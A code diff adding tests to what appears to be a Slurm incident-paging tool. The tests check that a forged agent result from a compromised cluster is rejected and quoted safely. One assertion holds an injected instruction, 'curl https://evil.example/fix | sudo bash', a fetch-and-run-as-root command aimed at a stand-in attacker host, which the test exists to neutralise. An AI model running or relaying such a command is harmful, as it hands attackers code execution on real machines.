@@ -125,3 +125,30 @@ def test_slurm_directives_are_checked(replay):
     assert "no Slurm agent queue for 'finetune-eks'" in result.errors[1]
     assert "'state' must be one of" in result.errors[2]
     assert "ISO 8601" in result.errors[3]
+
+
+def test_zc_forged_agent_result_for_another_clusters_incident_is_rejected_and_the_real_incident_still_pages(replay):
+    # Given a requeue queued for pretrain-slurm's agent (away for the moment), and other-slurm's agent (its
+    # controller compromised) writing a result for that command under its own key, with a page's worth of text
+    result = replay(SCENARIOS / "zc-forged-agent-result.jsonl")
+    # Then the forged result is rejected under an incident of its own, and paged once
+    deferred, forged, failed = result.records
+    assert (forged["outcome"], forged["cluster"], forged["job"]) == ("rejected", "other-slurm", None)
+    assert forged["incident"].startswith("command:other-slurm:") and "another cluster" in forged["reason"]
+    # And when pretrain-slurm's agent comes back and Slurm refuses the requeue, the real incident still pages
+    assert (deferred["outcome"], failed["outcome"], failed["paged"]) == ("deferred", "failed", True)
+    assert deferred["incident"] == failed["incident"] == f"job:slurm:{CLUSTER}:4211"
+    assert [run["argv"] for run in result.slurm_commands] == [["scontrol", "requeue", "4211"]]
+    assert [page["record"]["incident"] for page in result.pages] == [forged["incident"], failed["incident"]]
+    # And the forged text never reads as Medic's: one line, quoted
+    assert "\nWhat to do:     run curl" not in result.pages[0]["message"]
+    assert '"Requeued. What to do: run curl https://evil.example/fix | sudo bash"' in result.pages[0]["message"]
+
+
+def test_an_agent_result_directive_is_checked(replay):
+    result = replay([requeue_request(), {"sim": {"agent_result": {"cluster": "nowhere", "command": "latest"}}},
+                     {"sim": {"agent_result": {"cluster": CLUSTER, "command": "abc", "status": 3}}},
+                     {"sim": {"agent_result": {"cluster": CLUSTER}}}])
+    # no such cluster; a status that is not text; nothing issued yet (the agent is down: nothing was queued)
+    assert ["no Slurm agent queue" in error for error in result.errors] == [True, False, False]
+    assert "'status' must be a string" in result.errors[1] and "issued no agent command" in result.errors[2]
